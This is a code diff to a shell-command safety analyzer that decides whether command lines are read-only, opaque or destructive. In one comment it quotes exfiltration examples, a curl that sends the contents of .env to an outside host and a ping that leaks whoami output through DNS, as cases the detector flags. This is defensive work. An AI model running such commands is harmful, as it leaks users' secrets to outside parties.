@@ -3,7 +3,7 @@ import { COMMANDS } from './commands/index.js';
 import type { CommandContext, EffectSink, ScriptOptions, WriteHow } from './commands/spec.js';
 import { isSensitiveShellVariable, variableRisk } from './environment.js';
 import { parseCommandLine } from './parse.js';
-import { isDynamic, staticWord, type Word } from './word.js';
+import { dynamicWord, isDynamic, staticWord, type Word } from './word.js';
 
 /**
  * What each simple command of a line does, including the commands it runs: the ones inside
@@ -51,6 +51,7 @@ export interface LineAnalysis {
 }
 
 const MAX_NESTING = 8;
+const APPENDED = dynamicWord('(arguments added at run time)');
 const SYSTEM_DIRS = /^\/(usr\/)?(local\/)?s?bin\/[^/]+$/;
 const EXEMPT_DEVICES = new Set(['/dev/null', '/dev/stdout', '/dev/stderr', '/dev/stdin', '/dev/tty']);
 
@@ -128,7 +129,13 @@ class LineAnalyzer {
   }
 
   /** Analyze argv as a program run: env prefix, name resolution, then the command's knowledge. */
-  private program(cmd: SimpleCommand, argv: readonly Word[], r: ReportBuilder, extraArgs: boolean): void {
+  private program(
+    cmd: SimpleCommand,
+    argv: readonly Word[],
+    r: ReportBuilder,
+    extraArgs: boolean,
+    repeated = false,
+  ): void {
     for (const a of cmd.assignments) this.environment(a.name, a.value, r, argv[0]);
     const nameWord = argv[0];
     if (nameWord === undefined) return;
@@ -144,7 +151,7 @@ class LineAnalyzer {
       }
       name = name.slice(name.lastIndexOf('/') + 1);
     }
-    if (this.line.functions.has(name) && cmd.kind === 'command') {
+    if (this.line.functions.has(name) && cmd.kind === 'command' && argv === cmd.argv && !extraArgs) {
       // Its body is part of this line and analyzed on its own.
       return;
     }
@@ -161,7 +168,10 @@ class LineAnalyzer {
       return;
     }
     if (spec.transparent) r.transparent();
-    const ctx: CommandContext = { name, args: argv.slice(1), command: cmd, line: this.line, extraArgs };
+    // Arguments a program adds at run time (xargs, a pager's file names) are one more word the
+    // line does not show, so every command's own rules see them.
+    const args = extraArgs ? [...argv.slice(1), APPENDED] : argv.slice(1);
+    const ctx: CommandContext = { name, args, command: cmd, line: this.line, extraArgs, repeated };
     spec.analyze(ctx, this.sink(cmd, r));
   }
 
@@ -174,7 +184,8 @@ class LineAnalyzer {
       this.script(value, `${name}=... (${who})`, undefined, r, { appendsArgs: true });
       return;
     }
-    r.notReadOnly(`${risk.why} (${name}=... ${who})`);
+    if (risk.loadsCode) r.opaque(`${risk.why} (${name}=... ${who}): it can run code the line does not show`);
+    else r.notReadOnly(`${risk.why} (${name}=... ${who})`);
     if (name.startsWith('GIT_CONFIG_VALUE'))
       this.script(value, `${name}=`, undefined, r, { appendsArgs: true });
   }
@@ -196,7 +207,8 @@ class LineAnalyzer {
       read: (target) => r.read(target),
       write: (target, how, why) => r.write(target, how, why),
       remove: (target, why) => r.remove(target, why),
-      run: (argv, via, opts) => this.nested(cmd, argv, via, opts?.extraArgs ?? false),
+      run: (argv, via, opts) =>
+        this.nested(cmd, argv, via, opts?.extraArgs ?? false, opts?.repeated ?? false),
       runScript: (code, via, opts) => this.script(code, via, cmd, r, opts),
       opaque: (why) => r.opaque(why),
       network: (why, sends) => r.network(why, sends),
@@ -207,14 +219,20 @@ class LineAnalyzer {
     };
   }
 
-  private nested(cmd: SimpleCommand, argv: readonly Word[], via: string, extraArgs: boolean): void {
+  private nested(
+    cmd: SimpleCommand,
+    argv: readonly Word[],
+    via: string,
+    extraArgs: boolean,
+    repeated: boolean,
+  ): void {
     if (argv.length === 0) return;
     if (this.depth >= MAX_NESTING) {
       this.tooDeep(via);
       return;
     }
     const inner = new ReportBuilder(cmd, argv, via);
-    this.program({ ...cmd, assignments: [] }, argv, inner, extraArgs);
+    this.program({ ...cmd, assignments: [] }, argv, inner, extraArgs, repeated);
     this.reports.push(inner.build());
   }
 
@@ -333,6 +351,10 @@ class ReportBuilder {
   network(why: string, sends: boolean): void {
     this.notRO.push(why);
     if (sends) this.destructive.push(why);
+    else if (this.argv.some((w) => w.expansions.includes('command'))) {
+      // `curl "https://x/?d=$(cat .env)"`, `ping "$(whoami).evil"`: command output leaves the machine.
+      this.destructive.push(`${why}, carrying command output in its arguments`);
+    }
   }
 
   change(why: string, destructive: boolean): void {
